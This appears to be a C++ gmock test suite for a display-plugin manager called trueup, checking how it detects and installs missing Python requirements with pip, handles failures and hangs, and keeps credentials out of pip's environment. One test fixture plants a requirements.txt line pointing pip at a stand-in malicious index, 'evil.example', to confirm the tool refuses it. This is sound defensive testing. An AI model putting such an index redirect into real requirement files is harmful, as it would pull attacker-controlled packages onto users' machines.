// What a plugin needs of the Python that runs the display.
#include <gmock/gmock.h>

#include <algorithm>
#include <fstream>
#include <iterator>
#include <sstream>
#include <thread>

#include "support/snapshot.h"
#include "support/trueup_run.h"

namespace trueup::test {
namespace {

namespace fs = std::filesystem;
using testing::HasSubstr;

struct Requirements : testing::Test {
  Installation home;
  Trueup trueup{TRUEUP_BINARY, home};
  std::string display;  // its pid

  void SetUp() override {
    home.add_healthy("weather");
    home.write("venv/pyvenv.cfg", "include-system-site-packages = false\n");
    fs::create_directories(packages() / "pip-23.0.1.dist-info");
  }
  void TearDown() override {
    if (!display.empty()) run_command({"kill", "-9", display});
  }
  fs::path packages() { return home.root() / "venv/lib/python3.11/site-packages"; }
  fs::path marker() { return home.plugin("weather") / ".dependencies_installed"; }
  /// A program that to everybody who looks is the display.
  void start_display() {
    home.write("run.py", "");
    const std::string root = home.root().string();
    const auto started = run_command(
        {"bash", "-c",
         "(exec -a " + root + "/venv/bin/python3 tail -f /dev/null " + root + "/run.py) >/dev/null 2>&1 & echo $!"});
    display = started.output.substr(0, started.output.find('\n'));
    const std::string cmdline = "/proc/" + display + "/cmdline";
    // Not before: the shell that becomes it has the same words among its own.
    while (!read_file(cmdline).starts_with(root + "/venv/bin/python3")) std::this_thread::yield();
  }
  fs::path runs() { return home.root() / "runs"; }  // a line for each, written by what stands in for pip
  std::size_t times_run() {
    const std::string lines = fs::exists(runs()) ? read_file(runs()) : std::string();
    return static_cast<std::size_t>(std::ranges::count(lines, '\n'));
  }
  void allow(const char* policy = "install") {
    home.write("config/trueup/settings.json", std::string(R"({"python_requirements": ")") + policy + "\"}");
  }
  /// The display's Python, with a pip that goes on with `then`.
  void stand_in(const std::string& then) {
    home.write("venv/bin/python3", "#!/bin/sh\necho \"$@\" >>" + runs().string() + "\nenv >" +
                                       (home.root() / "environment").string() + "\n" + then);
    fs::permissions(home.root() / "venv/bin/python3", fs::perms::owner_all);
  }
  void let_pip_work() {
    stand_in("echo 'Successfully installed requests-2.31.0'\nmkdir -p " +
             (packages() / "requests-2.31.0.dist-info").string() + "\n");
  }
  void let_pip_fail() { stand_in("echo 'ERROR: No matching distribution found for requests' >&2\nexit 1\n"); }
  /// The numbers of a pip that never ends, and of what it started.
  fs::path hanging() { return home.root() / "hanging"; }
  void let_pip_hang() {
    const std::string file = hanging().string();
    stand_in("sleep 1000 &\necho $$ $! >" + file + ".new\nmv " + file + ".new " + file + "\nwait\n");
  }
  /// What `trueup VERB` then ends with.
  std::string end_while_pip_runs(const std::string& verb, const std::string& signal) {
    std::string line;
    for (const std::string& word : trueup.command({verb})) line += "'" + word + "' ";
    return run_command({"bash", "-c",
                        line + ">/dev/null 2>&1 & until [ -e " + hanging().string() + " ]; do :; done; kill -" +
                            signal + " $!; wait $!; echo $?"})
        .output;
  }
  static bool runs_still(const std::string& pid) {
    std::ifstream file("/proc/" + pid + "/stat");
    const std::string text((std::istreambuf_iterator<char>(file)), {});
    return !text.empty() && text.find(") Z") == std::string::npos;
  }
  const ShownFinding* missing(const Shown& shown) { return shown.finding("plugin_incompatible:weather:requirements"); }
};

TEST_F(Requirements, that_the_displays_python_lacks_are_a_finding_with_the_command) {
  EXPECT_EQ(missing(trueup.plan()), nullptr) << "nobody knows which Python runs the display";
  start_display();
  Shown plan = trueup.plan();
  const ShownFinding* found = missing(plan);
  ASSERT_NE(found, nullptr) << plan.ran.output;
  EXPECT_EQ(found->fix_action, "no_action") << "the display installs them by itself";
  EXPECT_EQ(plan.ran.exit_status, 0);
  write_file(marker(), "");
  plan = trueup.plan();
  found = missing(plan);
  ASSERT_NE(found, nullptr);
  EXPECT_EQ(found->fix_action, "manual_fix_required") << "it believes that it has them";
  EXPECT_EQ(found->reason, "requirements_missing");
  EXPECT_THAT(found->advice, HasSubstr(home.root().string() + "/venv/bin/python3 -m pip install"));
  EXPECT_THAT(found->advice, HasSubstr("-r " + (home.plugin("weather") / "requirements.txt").string()));
  EXPECT_EQ(plan.ran.exit_status, 3);
  EXPECT_EQ(trueup.reconcile().ran.exit_status, 3) << "no pass runs pip";
  fs::create_directories(packages() / "requests-2.31.0.dist-info");
  EXPECT_EQ(missing(trueup.plan()), nullptr);
}

TEST_F(Requirements, of_what_is_off_or_cannot_be_told_are_nobodys_business) {
  start_display();
  home.set_enabled("weather", false).record("weather", false, "1.0.0");
  EXPECT_EQ(missing(trueup.plan()), nullptr);
  home.set_enabled("weather", true).record("weather", true, "1.0.0");
  EXPECT_NE(missing(trueup.plan()), nullptr);
  fs::remove_all(home.root() / "venv/lib");
  EXPECT_EQ(missing(trueup.plan()), nullptr) << "packages that could not be found are not packages that are missing";
}

TEST_F(Requirements, are_installed_by_a_pass_only_where_the_settings_say_so_and_once) {
  start_display();
  let_pip_work();
  for (const char* policy : {"", "tell"}) {
    if (*policy != 0) allow(policy);
    trueup.reconcile();
    EXPECT_EQ(trueup.run({"reconcile", "--retry"}).exit_status, 0);
    EXPECT_EQ(times_run(), 0U) << policy;
  }
  allow();
  EXPECT_EQ(trueup.plan().ran.exit_status, 2);
  EXPECT_EQ(times_run(), 0U) << "a plan runs nothing";
  const Shown done = trueup.reconcile();
  EXPECT_EQ(done.ran.exit_status, 0) << done.ran.output;
  ASSERT_EQ(done.fixed.size(), 1U);
  EXPECT_EQ(done.fixed[0].finding, "plugin_incompatible:weather:requirements");
  EXPECT_EQ(read_file(runs()), "-m pip install --break-system-packages -r " +
                                   (home.plugin("weather") / "requirements.txt").string() + "\n");
  EXPECT_EQ(missing(trueup.plan()), nullptr);
  trueup.reconcile();
  EXPECT_EQ(times_run(), 1U);
  EXPECT_TRUE(fs::exists(marker())) << "it is true now, and LEDMatrix need not run pip once more";
}

TEST_F(Requirements, a_setting_that_nobody_can_mean_is_refused) {
  allow("always");
  const auto ran = trueup.run({"reconcile"});
  EXPECT_EQ(ran.exit_status, 1);
  EXPECT_THAT(ran.errors, HasSubstr("it can be tell or install"));
}

TEST_F(Requirements, that_pip_cannot_install_leave_the_plugin_whole_and_wait_until_they_are_retried) {
  start_display();
  let_pip_fail();
  allow();
  write_file(marker(), "");
  const auto before = take_snapshot(home.plugin("weather"));
  EXPECT_EQ(trueup.reconcile().ran.exit_status, 3);
  EXPECT_EQ(difference(before, take_snapshot(home.plugin("weather"))), "");
  EXPECT_THAT(read_file(home.root() / ".trueup/pip/weather.txt"), HasSubstr("No matching distribution"));
  const Shown plan = trueup.plan();
  const ShownFinding* found = missing(plan);
  ASSERT_NE(found, nullptr);
  EXPECT_EQ(found->reason, "requirements_wait");
  EXPECT_THAT(found->advice, HasSubstr("No matching distribution"));
  EXPECT_THAT(found->advice, HasSubstr(".trueup/pip/weather.txt"));
  EXPECT_THAT(trueup.run({"history"}).output, HasSubstr("the Python packages of weather are not installed"));
  trueup.reconcile();
  EXPECT_EQ(times_run(), 1U);
  trueup.run({"reconcile", "--retry"});
  EXPECT_EQ(times_run(), 2U);
  let_pip_work();
  EXPECT_EQ(trueup.run({"reconcile", "weather"}).exit_status, 0) << "by name it does not wait either";
  EXPECT_EQ(times_run(), 3U);
  EXPECT_EQ(missing(trueup.plan()), nullptr);
}

TEST_F(Requirements, are_installed_behind_an_install_and_an_update_which_stand_whatever_comes_of_it) {
  start_display();
  home.offer("clock", "1.0.0");
  let_pip_fail();
  allow();
  const auto installed = trueup.run({"install", "clock"});
  EXPECT_EQ(installed.exit_status, 0) << installed.output;
  EXPECT_THAT(installed.output, HasSubstr("clock 1.0.0 is installed"));
  EXPECT_THAT(installed.output, HasSubstr("the Python packages of clock are not installed: pip failed with exit"));
  EXPECT_EQ(trueup.list()["clock"].state, "healthy");
  EXPECT_EQ(times_run(), 1U);
  home.offer("clock", "1.1.0");
  let_pip_work();
  const auto updated = trueup.run({"update", "clock"});
  EXPECT_EQ(updated.exit_status, 0) << updated.output;
  EXPECT_THAT(updated.output, HasSubstr("pip installed requests"));
  EXPECT_EQ(trueup.list()["clock"].version, "1.1.0");
  EXPECT_EQ(times_run(), 2U);
}

TEST_F(Requirements, of_a_plugin_that_comes_back_are_installed_by_the_same_pass) {
  start_display();
  let_pip_work();
  allow();
  home.offer("clock", "1.0.0").set_enabled("clock", true).record("clock", true);
  home.set_enabled("weather", false).record("weather", false, "1.0.0");
  const Shown done = trueup.reconcile();
  EXPECT_TRUE(fs::exists(home.plugin("clock") / "manifest.json")) << done.ran.output;
  EXPECT_EQ(times_run(), 1U);
  EXPECT_EQ(trueup.plan().steps_to_do(), 0U);
}

TEST_F(Requirements, pip_gets_no_variable_of_ours) {
  start_display();
  let_pip_work();
  allow();
  trueup.run({"reconcile"}, {.environment = {{"GITHUB_TOKEN", "canary"}, {"HTTPS_PROXY", "http://me:canary@proxy"}}});
  ASSERT_EQ(times_run(), 1U);
  EXPECT_EQ(read_file(home.root() / "environment").find("canary"), std::string::npos);
}

TEST_F(Requirements, in_a_file_that_says_from_where_to_take_them_are_left_to_a_person) {
  start_display();
  let_pip_work();
  allow();
  write_file(home.plugin("weather") / "requirements.txt",
             "requests>=2.0.0\n--index-url http://me:canary@evil.example\n");
  const Shown done = trueup.reconcile();
  EXPECT_EQ(times_run(), 0U);
  const Shown plan = trueup.plan();
  const ShownFinding* found = missing(plan);
  ASSERT_NE(found, nullptr);
  EXPECT_EQ(found->reason, "requirements_not_plain");
  EXPECT_THAT(found->advice, HasSubstr("line 2"));
  EXPECT_EQ(plan.ran.output.find("canary"), std::string::npos);
}

TEST_F(Requirements, whoever_ends_trueup_ends_the_pip_that_it_runs_with_all_that_it_started) {
  start_display();
  allow();
  for (const char* verb : {"reconcile", "serve"}) {
    for (const auto& [signal, status] :
         {std::pair("TERM", verb == std::string("serve") ? "0\n" : "143\n"), std::pair("KILL", "137\n")}) {
      let_pip_hang();
      EXPECT_EQ(end_while_pip_runs(verb, signal), status) << verb;
      std::istringstream pids(read_file(hanging()));
      for (std::string pid; pids >> pid;) {
        while (runs_still(pid)) std::this_thread::yield();
      }
      fs::remove(hanging());
    }
  }
  EXPECT_EQ(times_run(), 4U);
  let_pip_work();
  EXPECT_EQ(trueup.reconcile().ran.exit_status, 0) << "it was no failure of pip";
}

TEST_F(Requirements, that_the_owner_ignores_are_not_installed) {
  start_display();
  let_pip_work();
  allow();
  EXPECT_EQ(trueup.run({"ignore", "plugin_incompatible:weather:requirements"}).exit_status, 0);
  trueup.reconcile();
  EXPECT_EQ(times_run(), 0U);
}

}  // namespace
}  // namespace trueup::test
